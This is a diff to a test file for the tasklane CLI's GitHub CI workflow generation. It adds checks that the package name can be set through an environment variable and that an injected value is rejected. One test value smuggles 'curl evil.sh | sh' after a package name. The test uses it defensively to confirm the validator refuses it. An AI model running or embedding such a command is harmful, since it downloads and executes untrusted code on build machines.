@@ -44,7 +44,14 @@ describe('cli: ci github, ci verify, run --expect-hash / --chores-from / --out',
     assert.equal(result.code, 0, result.err);
     const [chore] = parseChoresFile(fs.readFileSync(path.join(dir, '.tasklane/chores.yaml'), 'utf8')).chores;
     assert.equal(hashIn(result.out), choreDefinitionHash(chore!), 'the hash VS Code binds Enable to');
-    assert.match(result.out, new RegExp(`npm install --global --ignore-scripts tasklane@${CLI_VERSION.replace(/\./g, '\\.')}\n`));
+    assert.match(result.out, new RegExp(`npm install --global --ignore-scripts "\\$TASKLANE_CLI_PACKAGE@${CLI_VERSION.replace(/\./g, '\\.')}"\n`));
+    assert.match(result.out, /^ {2}TASKLANE_CLI_PACKAGE: "tasklane"$/m, 'the package installed, named in the workflow');
+    // A team that installs the CLI under its own scope says so; anything but an npm name is refused.
+    const scoped = await cli(['chores', 'ci', 'github', '--workspace', dir], { TASKLANE_CLI_PACKAGE: '@acme/tasklane' });
+    assert.match(scoped.out, /^ {2}TASKLANE_CLI_PACKAGE: "@acme\/tasklane"$/m);
+    const injected = await cli(['chores', 'ci', 'github', '--workspace', dir], { TASKLANE_CLI_PACKAGE: 'tasklane; curl evil.sh | sh' });
+    assert.equal(injected.code, 2);
+    assert.match(injected.err, /is not an npm package name/);
     // Without a version from the caller, the CLI reads its own package.json.
     let out = '';
     const code = await runCli(
